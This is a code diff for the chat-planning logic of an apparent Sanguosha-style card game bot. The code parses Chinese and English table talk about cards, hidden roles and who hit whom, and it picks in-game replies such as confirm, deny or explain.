-		return null;
-	if (move.act === "report" && (about === void 0 || about === from))
-		return { move: "ack", clause: "your_hand", occasion: "ack", asked: move };
-	return about === void 0 ? null : hiddenHand(about, move, asked);
-}
-const HOW_MANY = /(?:几多?|多少)张(?!桃|闪|杀|无懈|酒)|\bhow many cards\b/;
-function hiddenHand(holder, move, { me, scene, text }) {
-	const base = { occasion: "ack", asked: move };
-	if (isEmptyHanded(scene, holder)) return { ...base, move: "confirm", clause: "no_cards", about: holder };
-	if (HOW_MANY.test(text) && seatOf(scene, holder)?.turnHand !== void 0)
-		return { ...base, move: "confirm", clause: "hand_count", about: holder };
-	return holder === me ? { ...base, move: "deflect", clause: "own_hand" } : { ...base, move: "unsure", clause: "other_hand", about: holder };
-}
-function ownDoing(move, { scene, me }, cards = []) {
-	const withIt = [...scene.facts].reverse().filter(({ by, to, card }) => by === me && to !== me && cards.some((one) => one.card === card));
-	const done = cards.length > 0 ? withIt : deedsOf(me, null, scene).reverse();
-	const facts = done.filter(({ kind, to }, i) => done.findIndex((one) => one.kind === kind && one.to === to) === i).slice(0, 2);
-	return facts.length > 0 ? { move: "explain", clause: "own_doing", occasion: "ack", about: me, facts, asked: move, ...taking(move) } : null;
-}
-function judgementHeard(move, asked) {
-	const { me, scene, view, from } = asked;
-	const { about, denied = false } = move;
-	const role = move.act === "accuse" && move.role === "zhong" && !denied ? "fan" : move.role ?? (move.act === "vouch" ? "zhong" : "fan");
-	const wrong = move.facts?.find((fact) => fact.verdict === "false" && isFlat(fact, asked));
-	if (wrong) return denial(wrong, move, asked);
-	if (about === void 0)
-		return { move: "ask", clause: "ask", question: "whom", occasion: "unclear", awaits: "who", asked: move };
-	const speaksWell = (role === "zhong" || role === "zhu") !== denied;
-	if (about === me)
-		return speaksWell ? { move: "thank", clause: "vouched", occasion: "praise", asked: move } : rebuttal(move, asked);
-	if (about === from) return claimHeard({ ...move, role }, asked);
-	const open = openPlan(about, move, asked);
-	if (open) return { ...open, move: open.role === role === !denied ? "confirm" : "correct" };
-	const mine = guessAbout(about, move, asked);
-	const known = factsIn(move, asked);
-	if (mine.role !== void 0) {
-		const agrees = mine.role === "zhong" === speaksWell;
-		const told = agrees ? known.filter(({ by }) => by === about).slice(0, 1) : [];
-		const facts = [...new Set([...told, ...mine.facts ?? []])].slice(0, Math.max(1, mine.facts?.length ?? 0));
-		return { ...mine, facts, move: agrees ? "confirm" : "deny", occasion: "point_at" };
-	}
-	if (known.length > 0)
-		return { move: "confirm", clause: "confirm", occasion: "point_at", about, facts: known.slice(0, 2), asked: move };
-	const seen = reasonsFor3(scene, view, about, speaksWell ? "zhong" : "fan").slice(0, 1);
-	if (seen.length > 0 && chanceOf2(asked, "seen") < 0.5)
-		return { move: "unsure", clause: "unsure_who", occasion: "point_at", about, facts: seen, asked: move };
-	return { move: "ask", clause: "ask", question: "proof", occasion: "point_at", about, awaits: "what", asked: move };
-}
-function claimHeard(move, asked) {
-	const { from, scene, view, me } = asked;
-	const { role = "zhong", denied = false } = move;
-	const occasion = role === "zhong" !== denied ? "claim_loyal" : "claim_other";
-	const open = seatOf(scene, from)?.revealed;
-	if (open)
-		return {
-			move: open === role ? "confirm" : "correct",
-			clause: "open_role",
-			occasion,
-			about: from,
-			role: open,
-			asked: move
-		};
-	const ally = (role === "zhong" || role === "zhu") !== denied;
-	const { good, bad } = forAndAgainst(scene, from);
-	const onMe = me === scene.table.lord ? between(scene, from, me, isHarm) : [];
-	const against = ally ? [...new Set([...onMe, ...bad])] : [];
-	if (against.length > 0)
-		return {
-			move: "call_out",
-			clause: "call_out",
-			occasion,
-			about: from,
-			role,
-			facts: against.slice(0, 2),
-			asked: move
-		};
-	const { identity, confidence } = view.guess(from);
-	if (!ally && !denied) {
-		const fits = identity === role && bad.length > 0;
-		const all = fits ? bad : [...good, ...bad];
-		const facts = [...all.filter(({ to }) => to === me), ...all].slice(0, 1);
-		const clause = facts.length === 0 ? "claim_bare" : fits ? "claim_fits" : "claim_odd";
-		return { move: fits ? "confirm" : "unsure", clause, occasion, about: from, facts, asked: move };
-	}
-	if (ally && identity === "zhong" && confidence >= LEANING2 && good.length > 0)
-		return { move: "confirm", clause: "confirm", occasion, about: from, facts: good.slice(0, 1), asked: move };
-	return { move: "ack", clause: null, occasion, about: from, asked: move };
-}
-function doubted(move, { memory, scene, from, me, moves }) {
-	const [last] = memory.exchanges(from, me).filter(({ answered }) => answered !== null);
-	if (!last || moves.length > 1 || last.turn < scene.turn - 1) return null;
-	const base = { move: "ack", occasion: "agree", takesUp: last.id, asked: move };
-	return { ...base, clause: move.act === "agree" ? "agreed" : move.act === "refuse" ? "disagreed" : "patience" };
-}
-const PUT_OFF = /(?:再|先)(?:看看|等等|想想|看(?:一|两)?(?:轮|圈|手|下)|看他|看她|说吧)|还(?:得|要|是)(?:再)?(?:等|看|想)|容我想|让我想想|说不准|\b(?:wait and see|let me (?:think|see)|not (?:sure )?yet|we'?ll see|too early)\b/;
-function replied(move, asked) {
-	const exchange = takenUp2(asked, move);
-	return { move: "ack", clause: "short", occasion: exchange ? "agree" : "ack", asked: move, ...taking(move) };
-}
-
 // src/chatter/plan/held.ts
 const HELD_WITH = new Set(["ask_count", "ask_sure", "ask_rule"]);
 function heldPlan(move, asked) {
@@ -40094,6 +40366,55 @@ function heldPlan(move, asked) {
 	return holder === null ? null : hiddenHand(holder, move, asked);
 }
 
+// src/chatter/plan/objection.ts
+const HELD = /(?:^|[,.!?\s号])(?:可(?=是|[他她这\d])|但|不过|(?:but|yet|except)\b)|前面.{1,12}可是|怎么解释|\b(?:tho|though)$/;
+const OTHERWISE2 = /万一|(?:也|就不)[可能]|(?:说不定|没准|也许)(?!.*谁)|\b(?:maybe|might just|what if|could(?:'ve| have)? (?:just )?(?:been?|had))\b/;
+const FRESH4 = 2;
+function objectionPlan(move, asked) {
+	const { text, me, from, meant, scene, memory, moves } = asked;
+	const [held, otherwise] = [HELD.test(text), OTHERWISE2.test(text)];
+	if (!meant || !(held || otherwise)) return null;
+	const spoken = memory.exchanges(from, me).flatMap(({ answered, turn }) => turn >= scene.turn - FRESH4 ? answered?.about ?? [] : []);
+	const about = [...spoken, ...otherwise ? namedBy(asked).seats : []].find(
+		(seat) => seat !== me && seat !== from && seat !== scene.table.lord
+	);
+	if (about === void 0) return null;
+	const deed = [...moves.flatMap((one) => factsIn(one, asked)), touchedBy(asked)].find((fact) => fact?.by === about);
+	const told = moves.some((one) => one.about === about && one.facts?.some(({ verdict }) => verdict === "true"));
+	if (!deed && !told && (!otherwise || moves.some(({ act }) => OF_DEAL.has(act)))) return null;
+	const mine = guessAbout(about, move, asked);
+	const reason = mine.role === void 0 ? void 0 : mine.facts?.find((fact) => fact !== deed);
+	const base = { occasion: "ask_why", about, asked: move, ...taking(move) };
+	if (deed && (held || !reason))
+		return { ...base, move: "explain", clause: reason ? "mixed" : "granted", facts: reason ? [deed, reason] : [deed] };
+	return reason ? { ...base, move: "explain", clause: "maybe_so", facts: [reason] } : { ...base, move: "unsure", clause: "maybe_open" };
+}
+const OF_DEAL = new Set(["promise", "propose", "plead", "order", "ask_plan"]);
+const OWN_VIEW2 = /你.{0,4}[当拿眼]|\bdo you (?:see|count|treat)\b/;
+function regardPlan(move, asked) {
+	const { text, me, from, scene, moves } = asked;
+	const { about } = move;
+	if (about === void 0 || about === me || !REGARDED.test(text) || OWN_VIEW2.test(text)) return null;
+	const told = moves.flatMap((one) => factsIn(one, asked)).find(({ to }) => to === about)?.by;
+	const by = told ?? namedBy(asked).seats.find((seat) => seat !== about && seat !== me && seat !== from);
+	if (by === void 0 || by === me) return null;
+	const [good] = between(scene, by, about, isHelp);
+	const [bad] = between(scene, by, about, isHarm);
+	if (!good && !bad) return null;
+	return {
+		move: "explain",
+		clause: good && bad ? "mixed" : good ? "regard_good" : "regard_bad",
+		occasion: "ask_guess",
+		about: by,
+		facts: [good, bad].flatMap((fact) => fact ?? []),
+		asked: move,
+		...taking(move)
+	};
+}
+const SETUP = /(?:[一二两三四\d]个?[主忠反内][臣贼奸]?,?){3}|(?:\b\d (?:lord|loyal\w*|sp(?:y|ies)|traitor|reb(?:el)?)s?\W*){2}/;
+const ASKS_SETUP = /对[吧不么吗]|[没不]数?错|\b(?:right|correct)\b/;
+const asksSetup = (text) => SETUP.test(text) && ASKS_SETUP.test(text);
+
 // src/chatter/plan/outlook.ts
 const LOW4 = 2;
 const OPEN2 = new Set([
@@ -40106,9 +40427,9 @@ const OPEN2 = new Set([
 	"hurry",
 	"agree"
 ]);
-const isBare2 = ({ act, promise }) => act === "promise" && promise === void 0;
+const isBare3 = ({ act, promise }) => act === "promise" && promise === void 0;
 const foretells = ({ moves, text }) => FORETOLD.test(text) && moves.every(
-	(move) => !isQuestion(move) && (OPEN2.has(move.act) || isBare2(move)) && (move.act !== "topic" || move.topic === "luck")
+	(move) => !isQuestion(move) && (OPEN2.has(move.act) || isBare3(move)) && (move.act !== "topic" || move.topic === "luck")
 );
 function outlookPlan(move, { scene, text }) {
 	const { lord } = scene.table;
@@ -40122,48 +40443,68 @@ function outlookPlan(move, { scene, text }) {
 }
 
 // src/chatter/moves/of-record.ts
-const DELAYED2 = new Set(["lebu", "bingliang", "shandian"]);
-const YET_TO_COME2 = /打算|准备|下(?:个|一个?)?(?:回合|轮)|(?<![没])(?:要|想(?!知道|问)|该|能(?!告诉)|会|可以)|如果|手里|(?:还|就|只)剩|还有(?:几|多少)|\b(?:should|can|could|will|would|wanna|wants?|gonna|going to|need|if|next|left|with (?:me|us)|holds?|holding|hiding|sitting on my)\b/;
-const HOW_MANY_ZH = /(?:几|多少)(?!号|轮|回合|成|岁|反|忠|内|位|个意思)/;
+const DELAYED3 = new Set(["lebu", "bingliang", "shandian"]);
+const YET_TO_COME2 = /最少|打算|准备|下(?:个|一个?)?(?:回合|轮)|(?<![没])(?:要|想(?!知道|问)|该|能(?!告诉)|会|可以)|如果|手里|(?:还|就|只)剩|还有(?:几|多少)|\b(?:should|can|could|will|would|wanna|wants?|gonna|going to|need|if|next|left|with (?:me|us)|holds?|holding|hiding|sitting on my)\b/;
+const HOW_MANY_ZH = /(?:几|多少)(?!号|(?<!了几)轮|回合|成|岁|反|忠|内|位|个意思)/;
 const HOW_MANY_EN = /\bhow (?:many|much|often)\b/;
 const POINTS = /(?:几|多少)(?:点|滴|格|口)?(?:血|伤)|(?:几|多少)[点滴格]|\b(?:hp|health|damage|dmg)\b|\bhow much\b(?! (?:longer|time))/;
+const HEADS = /(?:几|多少)(?:个(?=人|$|[,.!?])|人|位)|\bhow many (?:people|ppl|players|others|folks|of (?:us|you|u|them))\b/;
+const FIRST5 = /头一个|第一[个位]|最[先早]|首先|谁先(?!手)|\bfirst\b/;
+const MOST4 = /最[多狠勤凶高]|\bmost\b/;
+const LAID2 = /判定[牌区]|头上(?:还|都)?[顶贴挂压有]|\bjudge?ments? (?:card|zone|area)s?\b/;
+const ANYBODY3 = /谁|几个|有(?:没有)?人|有没有|\b(?:who|any(?:one|body)|how many)\b/;
+const IN_TURN = /^(?:那|这|的)?(?:一?个)?回合(?:里|内|中|时|的时候)|^'s turn\b/;
 const BARE3 = /多少(?=$|[,.!?啊呀呢了下]|血)/;
-const CARDS_COUNTED = /(?:几|多少)(?:张|件|样|个)|\bcards?\b/;
-const TIMES2 = /(?:几|多少)(?:次|下|回)|\b(?:times|often|hits?)\b/;
-const BLADES = /(?:几|多少)刀|砍[^,]{0,8}(?:几|多少)[次下回]/;
+const CARDS_COUNTED = /(?:几|多少)(?:张|件|样|个)|牌|\bcards?\b/;
+const TIMES2 = /(?:几|多少)(?:次|下|回)|(?<=了)几轮|\b(?:times|often|hits?)\b/;
+const BLADES = /(?:几|多少)刀/;
 const GROUP_CARDS = /\baoes?\b|群(?:伤|攻)|范围(?:牌|伤)/;
 const LIFT = /解|拆|懈|化|揭|摘|挡|顶|\b(?:lift|remov|clear|nullif|null|negat|cancel|block|dismantl)\w*|\bt(?:ook|ake) .{0,20}off\b/;
 const CANCEL = /懈|挡|顶(?:了|的|掉)|抵消|\b(?:nullif|negat|counter|block|cancel)\w*|\bnull(?:ed|s)?\b/;
 const SAVE = /[救捞]|拉(?:回|起)|续(?:了|的|上|命)|喂|\b(?:sav|rescu|reviv)\w*|\bke(?:pt|ep) .{1,24} (?:alive|up|going)|\bpulled .{1,24} (?:up|back|through)/;
 const HEALS = /[回加奶吸](?:了|过|上|满|血|多少|几)|涨血|\b(?:heal|recover|regain|gain|restor)\w*|\bgot (?:some |the |any )?(?:hp|health)\b/;
 const KILLS = /人头|[打杀收干弄][死掉走]?(?:了|过)?(?:几|多少)个|\bkill\w*/;
-const TAKES4 = /拆|顺|(?:[拿偷摸抽牵]|没)(?:走|掉|了)|弃|\b(?:st[eo]le?n?|snatch|swip|discard|dismantl|grab|rob)\w*\b|\bt(?:ook|aken?)\b/;
+const TAKES4 = /拆|顺|(?:[拿偷摸抽牵丢]|没)(?:走|掉|了)|弃|\b(?:st[eo]le?n?|los[et]|snatch|swip|discard|dismantl|grab|rob)\w*\b|\bt(?:ook|aken?)\b/;
 const GIVES3 = /[送塞递]|给(?!.*的$).{0,8}(?:几|多少)张|\b(?:gave|giv(?:e|en)|hand(?:ed)?|pass(?:ed)?|fed)\b/;
-const HURTS = /[打砍捅剁敲劈锤揍射烧伤电削扣捶掉挨丢费损]|传导|\b(?:hit|hurt|damag|attack|slash|struck|strik|burn|cost|deal|los[et]|shot|zap|smack)\w*\b|\bt(?:ook|aken?)\b|\bw(?:ent|as going) (?:at|for|after)\b/;
-const WHO_DONE = /(?<![找招跟惹怪])(?:谁|哪个|哪位|几号)(?![都也敢家]).{0,9}(?:的|了|过|来着)|(?:的|了|过)(?:都)?是?(?:谁|哪个|哪位|几号)|\b(?:who(?:m|se)?|which (?:one )?of (?:you|u|us|them))\b.{0,24}\b(?:did|was|were|has|have|put|hit|hurt|got|kept|went|took|gave|shot|struck|that|\w+ed)\b|\bdid (?:(?:that|the|those) .{1,24}\b)?(?:anyone|anybody|somebody)\b/;
+const HURTS = /[吃挨].{0,5}的[刀打揍杀]|[打砍捅剁敲劈锤揍射烧伤电削扣捶掉挨丢费损]|传导|\b(?:hit|hurt|d(?:a?m|ama)g|attack|slash|struck|strik|burn|cost|deal|los[et]|shot|zap|smack)\w*\b|\bt(?:ook|aken?)\b|\bw(?:ent|as going) (?:at|for|after)\b/;
+const WHO_DONE = /(?<![找招跟惹怪])(?:谁|哪个|哪位|几号)(?![都也敢家]).{0,9}(?:的|了|过|来着)|(?:的|了|过)都?[是有]?(?:谁|哪个|哪位|几号)|\b(?:who(?:m|se)?|which (?:one )?of (?:you|u|us|them))\b.{0,24}\b(?:did|was|were|has|have|put|hit|hurt|got|kept|went|took|gave|shot|struck|that|\w+ed)\b|\bdid (?:(?:that|the|those) .{1,24}\b)?(?:anyone|anybody|somebody)\b/;
 const MEANS3 = /(?:啥|什么)(?:玩意儿?|东西|牌|招|技能)?(?:打|砍|弄|伤|烧|干)的|(?:用|拿)(?:的)?(?:啥|什么)(?:打|砍|弄|伤|烧)?|\bwhat (?:did|was) .{1,30} with\b|\bhit .{1,20} with what\b/;
 const WITHIN_ONE = /(?<!上)一(?:个)?回合|刚(?=给|才?[打砍])|\bjust\b|\bin (?:one|a single) turn\b/;
 const EVERYBODY2 = /都(?:是|有)?(?:谁|哪)|谁都|哪些|哪几|分别|\b(?:who|whom) all\b/;
-const OBJECT_ZH = /(?:给了?|[对冲朝向往盯]着?|把|将|替|帮|从|连|针对|(?:决斗|火攻|[打砍杀拆顺救捞烧奶喂贴扶捅敲劈锤射收弄坑伤揍连])(?:了|过|的|掉了?|死了?|回了?|走|着|中了?|到)?|(?<![的那张])[乐兵]了?)$/;
+const OBJECT_ZH = /(?:给了?|[对冲朝向往盯]着?|把|将|替|帮|从|针对|(?<![的那张])[乐兵]了?)$/;
 const AGENT_ZH = /(?:被|让|叫|由)$/;
-const OBJECT_EN2 = /\b(?:on|to|at|for|off|from|against|after|(?:hit|slash|struck|strik|kill|kept|keep|sav|heal|burn|shot|shoot|attack|duel|chain|rob|help|peach|rescu|reviv|damag|hurt)[a-z]*)(?: the)? $/;
-const BEARS = /^(?:那|这)?(?:身上|头上|手牌|血)|^[^谁,]{0,8}(?:被|挨|吃了|中了|(?<![打敲砍烧干])掉|少了|损|丢|倒|(?<![打砍杀弄捅射毒劈电烧炸])死|没了)|^ (?:ever |even |already )?(?:has |have |had )?(?:lost|los[et]|taken|suffer|ate|eaten|been|was|got) ?/;
-const BEARS_EN_LOSS = /\b(?:los[et]|lost|taken|suffered|eaten|ate)\b/;
-const BEFELL = /^(?: ever)? (?:got (?!rid)|gained|lost|ate|was|were|did|has (?:he|she|\w+) )\b|^(?:都|全|也|又)?[吃掉回中][了血]/;
-function slotsOf3(text, mentions) {
+const OBJECT_EN2 = /\b(?:on|to|at|for|off|from|against|after|keep|kept)(?: the)? $/;
+const BEARS = /^(?:那|这)?(?:身上|头上|手牌|血)|^[^谁,让]{0,8}(?:被|挨|吃[了过]|中了|(?<![打敲砍烧干])掉|少了|损|丢|倒|(?<![打砍杀弄捅射毒劈电烧炸])死|没了)|^ (?:ever |even |already )?(?:has |have |had )?(?:lost|los[et]|taken|suffer|ate|eaten|been|was|got) ?/;
+const BEFELL = /^(?: ever)? (?:got (?!rid)|gained|lost|ate|was|were|did) ?\b|^(?:都|全|也|又)?[吃掉回中][了血]/;
+function slotsOf3(text, mentions, deeds = []) {
+	const marked = slotsBeside(text, mentions);
+	const seat = (party) => typeof party === "number" ? [party] : [];
+	const deed = deeds.filter(({ by: by2, to }) => by2 === "asked" || to === "asked").pop() ?? deeds.filter(({ by: by2, to }) => typeof by2 === "number" && typeof to === "number").pop();
+	if (deed === void 0) {
+		const bore = deeds.some(({ by: by2, to }) => by2 === "open" && to === marked.by);
+		return bore && marked.to.length === 0 && marked.by !== void 0 ? { to: [marked.by] } : marked;
+	}
+	const [by] = seat(deed.by);
+	if (deed.by === "asked")
+		return { to: deed.to === "open" && marked.asked === "by" ? marked.to : seat(deed.to), asked: "by" };
+	const doer = by ?? (marked.asked === "to" ? marked.by : void 0);
+	return {
+		to: seat(deed.to),
+		...doer === void 0 ? {} : { by: doer },
+		...deed.to === "asked" ? { asked: "to" } : {}
+	};
+}
+function slotsBeside(text, mentions) {
 	const spoken = mentions.filter(({ called }) => !called);
 	const all = spoken.some(({ kind, seat }) => kind !== "who" && seat !== null) ? spoken : mentions;
 	const who = all.find(({ kind }) => kind === "who");
 	const isObject = ({ start, end }) => {
 		const before = text.slice(0, start);
-		if (AGENT_ZH.test(before)) return false;
-		if (/\bfrom (?:the )?$/.test(before) && BEARS_EN_LOSS.test(before)) return false;
+		if (AGENT_ZH.test(before)) return /[让叫]$/.test(before) && BEARS.test(text.slice(end));
 		return OBJECT_ZH.test(before) || OBJECT_EN2.test(before) || BEARS.test(text.slice(end));
 	};
 	const asked = who === void 0 ? void 0 : isObject(who) || BEFELL.test(text.slice(who.end)) ? "to" : "by";
-	const named = all.filter(
-		({ kind, seat, start }) => kind !== "who" && seat !== null && !/\bof $/.test(text.slice(0, start))
-	);
+	const named = all.filter(({ kind, seat }) => kind !== "who" && seat !== null);
 	const seats = (of) => [...new Set(of.flatMap(({ seat }) => seat ?? []))];
 	if (asked === "by") {
 		const marked = named.filter(isObject);
@@ -40181,9 +40522,9 @@ const doerOf = (mentions) => {
 	return by === null ? {} : { by };
 };
 function whatOf(text, cards, counts) {
-	const laid = cards.some((card) => DELAYED2.has(card));
+	const laid = cards.some((card) => DELAYED3.has(card));
 	if (laid && LIFT.test(text)) return "lift";
-	if (cards.includes("wuxie") || !counts && CANCEL.test(text)) return "wuxie";
+	if (cards.includes("wuxie") || CANCEL.test(text)) return "wuxie";
 	if (SAVE.test(text) || HEALS.test(text) && !/[回]合/.test(text.replace(/回合/g, ""))) return "heal";
 	if (cards.length > 0 && !counts && /传导|掉了?血|\b(?:hp|health|damage)\b/.test(text)) return "hurt";
 	if (KILLS.test(text) && cards.every((card) => card === "sha")) return "kill";
@@ -40197,40 +40538,65 @@ function rarest(named) {
 	const rare = named.filter((card) => card !== "sha" && card !== "shan");
 	return [...new Set(rare.length > 0 ? rare : named)];
 }
-const mayAskRecord = (text) => HOW_MANY_ZH.test(text) || HOW_MANY_EN.test(text) || MEANS3.test(text) || WHO_DONE.test(text);
+const mayAskRecord = (text) => [HOW_MANY_ZH, HOW_MANY_EN, MEANS3, WHO_DONE, MOST4, FIRST5, LAID2].some((one) => one.test(text));
 function ofRecord(text, mentions, scene) {
 	if (YET_TO_COME2.test(text)) return null;
 	const named = [...cardsIn(text), ...skillsIn(text, scene)].filter(
 		(card) => !mentions.some(({ start, end }) => card.start >= start && card.end <= end)
 	);
 	const many = HOW_MANY_ZH.test(text) || HOW_MANY_EN.test(text);
-	const asksWho = mentions.some(({ kind }) => kind === "who") && WHO_DONE.test(text);
+	const laid = named.filter(({ card }) => DELAYED3.has(card)).map(({ card }) => card);
+	if (LAID2.test(text) && ANYBODY3.test(text) && !WHO_DID_LAY.test(text))
+		return { wants: "victims", what: "laid", to: [], cards: laid, when: null, all: true };
+	const rank = FIRST5.test(text) ? "first" : MOST4.test(text) ? "most" : void 0;
+	const turn = mentions.find(({ end, start }) => IN_TURN.test(text.slice(end)) && !text.startsWith("谁", start));
+	const people = mentions.filter((one) => one !== turn && !/\bof $/.test(text.slice(0, one.start)));
+	const deeds = deedsIn(text, people, "open", skillsIn(text, scene));
+	const who = mentions.some(({ kind }) => kind === "who");
+	const asksWho = who && (WHO_DONE.test(text) || rank !== void 0 && deeds.length + named.length > 0);
 	const asksMeans = !many && MEANS3.test(text);
 	if (!many && !asksMeans && !asksWho) return null;
-	const cards = BLADES.test(text) ? ["sha"] : GROUP_CARDS.test(text) ? [...FOR_ALL] : rarest(named.map(({ card }) => card === "jiu" && STRUCK.test(text) ? "sha" : card));
+	const heads = many && HEADS.test(text);
+	const all = EVERYBODY2.test(text);
+	const points = many && (POINTS.test(text) || BARE3.test(text)) && !/\bcards\b/.test(text);
+	const blows = BLADES.test(text) || (all || rank !== void 0 || many && !points) && deeds.some(({ verb }) => verb === "strike");
+	const cards = blows && named.every(({ card }) => card === "sha" || card === "jiu") ? ["sha"] : GROUP_CARDS.test(text) ? [...FOR_ALL] : rarest(named.map(({ card }) => card === "jiu" && STRUCK.test(text) ? "sha" : card));
 	const what = asksMeans ? "hurt" : whatOf(text, cards, many);
 	if (what === null) return null;
-	const slots = slotsOf3(text, mentions);
+	const slots = slotsOf3(text, people, deeds);
 	const when = WITHIN_ONE.test(text) ? "own_turn" : whenIn(text);
-	const base = { what, cards, when, all: EVERYBODY2.test(text) };
+	const gear = what === "take" && cards.length === 0 ? gearIn(text, new Set()) : [];
+	const base = {
+		what,
+		cards: gear.length > 0 ? gear : cards,
+		when,
+		all,
+		...rank === void 0 ? {} : { rank },
+		...turn?.seat == null ? {} : { turnOf: turn.seat }
+	};
 	if (asksMeans) return { ...base, cards: [], wants: "means", ...toWhom(slots) };
+	const hurts = what === "use" && cards.some((card) => FOR_ALL.has(card)) ? { what: "hurt" } : {};
+	if (heads && what !== "kill") {
+		const befell = slots.asked === "to" || slots.asked === void 0 && slots.to.length === 0 && (slots.by !== void 0 || "what" in hurts || BEARS.test(text.slice(text.search(HEADS) + 2)));
+		return { ...base, ...befell ? hurts : {}, wants: befell ? "victims" : "doers", ...toWhom(slots) };
+	}
 	if (many) {
-		const points = (POINTS.test(text) || BARE3.test(text)) && (HURTS.test(text) || HEALS.test(text) || SAVE.test(text));
-		const kind = points ? HEALS.test(text.replace(/回合/g, "")) ? "heal" : "hurt" : what;
-		if (!points && kind === "hurt" && !TIMES2.test(text)) return null;
+		const health = points && (HURTS.test(text) || HEALS.test(text) || SAVE.test(text));
+		const kind = health ? HEALS.test(text.replace(/回合/g, "")) ? "heal" : "hurt" : what;
+		if (!health && kind === "hurt" && !TIMES2.test(text)) return null;
 		const { by, ...rest } = slots;
-		const self = kind === "heal" && slots.to.length === 0 && by !== void 0 && (points || cards.length === 0);
+		const self = kind === "heal" && slots.to.length === 0 && by !== void 0 && (health || cards.length === 0);
 		return {
 			...base,
 			what: kind,
-			wants: points ? "points" : "times",
+			wants: health ? "points" : "times",
 			...self ? { to: [by] } : toWhom({ ...rest, ...by === void 0 ? {} : { by } })
 		};
 	}
-	const whom = slots.asked === "to";
-	const hurts = whom && what === "use" && cards.some((card) => FOR_ALL.has(card));
-	return { ...base, ...hurts ? { what: "hurt" } : {}, wants: whom ? "whom" : "who", ...toWhom(slots) };
+	const whom = slots.asked === "to" || "what" in hurts && /掉了?血/.test(text);
+	return { ...base, ...whom ? hurts : {}, wants: whom ? "whom" : "who", ...toWhom(slots) };
 }
+const WHO_DID_LAY = /谁.{0,6}[贴挂放扔丢]的|\bwho (?:put|laid|played)\b/;
 const toWhom = ({ by, to }) => by === void 0 ? { to } : { by, to };
 
 // src/chatter/plan/of-record.ts
@@ -40259,6 +40625,8 @@ function deedsOf2({ what, cards }, scene) {
 				(fact) => (fact.kind === "heal" || fact.kind === "rescue") && (meant.length === 0 || meant.some((card) => isSame(scene, card, fact.card)))
 			);
 		}
+		case "laid":
+			return scene.uses.filter((use) => DELAYED3.has(use.name) && isOf({ card: use.name }) && liesThere(use, scene)).map(({ name: card, ...use }) => ({ ...use, card, num: 1 }));
 		case "kill":
 			return facts(({ kind }) => kind === "death");
 		case "take":
@@ -40273,20 +40641,24 @@ function deedsOf2({ what, cards }, scene) {
 			return facts((fact) => fact.kind === "wuxie" && (cards.every((card) => card === "wuxie") || isOf(fact)));
 	}
 }
+const liesThere = ({ to: [to = 0], name, turn }, { facts, lastTurns, table }) => table.bySeat.get(to)?.alive === true && (lastTurns.get(to) ?? 0) <= turn && !facts.some((fact) => fact.to === to && fact.card === name && fact.kind !== "aimed" && fact.turn >= turn);
 function found2(asked, scene) {
-	const { by, to, when, wants, what } = asked;
+	const { by, to, when, wants, what, rank, turnOf } = asked;
+	const turn = turnOf === void 0 ? void 0 : scene.lastTurns.get(turnOf);
 	const all = deedsOf2(asked, scene).filter(
 		(deed) => (by === void 0 || deed.by === by) && (to.length === 0 || to.some((seat) => deed.to.includes(seat) || what === "wuxie" && deed.fact?.against === seat))
 	);
 	const last = all[all.length - 1]?.turn;
 	const then = all.filter(
-		(deed) => when === "own_turn" ? deed.turn === last : (
+		(deed) => turn !== void 0 ? deed.turn === turn : when === "own_turn" ? deed.turn === last : (
 			// A sum of this round holds nothing of the one before.
 			when !== null && when.which === "this_round" && (wants === "points" || wants === "times") ? deed.round === scene.table.round : isThen(when, deed, scene)
 		)
 	);
 	const others = then.filter((deed) => deed.by === null || !deed.to.includes(deed.by) || deed.to.length > 1);
-	return { asked, deeds: wants === "who" && what !== "lift" && what !== "wuxie" && others.length > 0 ? others : then };
+	const ofOthers = wants === "who" ? rank === void 0 || what === "hurt" : wants === "doers";
+	const deeds = ofOthers && what !== "lift" && what !== "wuxie" && others.length > 0 ? others : then;
+	return { asked, deeds: rank === "first" ? deeds.slice(0, 1) : deeds };
 }
 function askedIn({ text, scene, from, me, moves, memory, meant }) {
 	const [last] = memory.exchanges(from, me);
@@ -40300,7 +40672,8 @@ function askedIn({ text, scene, from, me, moves, memory, meant }) {
 		const one = ofRecord(text.slice(start, end), within, scene);
 		if (one)
 			return withBefore(
-				one,
+				// "谁打的小乐,都谁啊".
+				EVERYBODY2.test(text) ? { ...one, all: true } : one,
 				slotsOf3(
 					text.slice(0, start),
 					mentions.filter((at) => at.end <= start)
@@ -40309,27 +40682,30 @@ function askedIn({ text, scene, from, me, moves, memory, meant }) {
 	}
 	return clauses.length > 1 ? ofRecord(text, mentions, scene) : null;
 }
-const withBefore = (asked, { by, to }) => asked.to.length === 0 && asked.by === void 0 && asked.wants !== "whom" && (asked.cards.length === 0 || asked.cards.every((card) => DELAYED2.has(card))) ? asked.wants === "who" && by !== void 0 ? { ...asked, to: to.length > 0 ? to : [by] } : { ...asked, to, ...by === void 0 ? {} : { by } } : asked;
+const withBefore = (asked, { by, to }) => asked.to.length === 0 && asked.by === void 0 && asked.wants !== "whom" && (asked.cards.length === 0 || asked.cards.every((card) => DELAYED3.has(card))) ? asked.wants === "who" && by !== void 0 ? { ...asked, to: to.length > 0 ? to : [by] } : { ...asked, to, ...by === void 0 ? {} : { by } } : asked;
 function recordPlan(move, asked) {
 	const { scene, moves, text } = asked;
 	const heard = mayAskRecord(text) ? askedIn(asked) : null;
 	if (heard === null) return null;
 	const question = moves.find(isQuestion) ?? move;
-	const known = (question.facts ?? []).filter(({ verdict }) => verdict === "true");
+	const known = (question.facts ?? []).filter(
+		({ verdict, fact }) => verdict === "true" && (heard.what !== "take" || isOfThese(heard, fact, scene))
+	);
 	const isSum = heard.wants !== "who" && heard.wants !== "whom";
-	if (!isSum && known.some(({ kind }) => heard.wants === "who" || heard.cards.length === 0 || kind === "death"))
+	if (!isSum && !heard.all && heard.rank === void 0 && heard.turnOf === void 0 && known.some(({ kind }) => heard.wants === "who" || heard.cards.length === 0 || kind === "death"))
 		return null;
 	if (heard.wants === "whom" && heard.what === "kill") return null;
 	const all = found2(heard, scene);
 	const base = { occasion: "ack", asked: question, found: all };
-	if (heard.wants === "times" || heard.wants === "points") return { ...base, move: "count", clause: "summed" };
+	if (isSum && heard.wants !== "means" || heard.rank === "most" && all.deeds.length > 0)
+		return { ...base, move: "count", clause: "summed" };
 	const last = all.deeds[all.deeds.length - 1];
 	if (last === void 0) return { ...base, move: "unsure", clause: "not_seen" };
 	if (heard.wants === "means") return { ...base, move: "confirm", clause: "by_means" };
 	const others = last.to.filter((seat) => seat !== last.by);
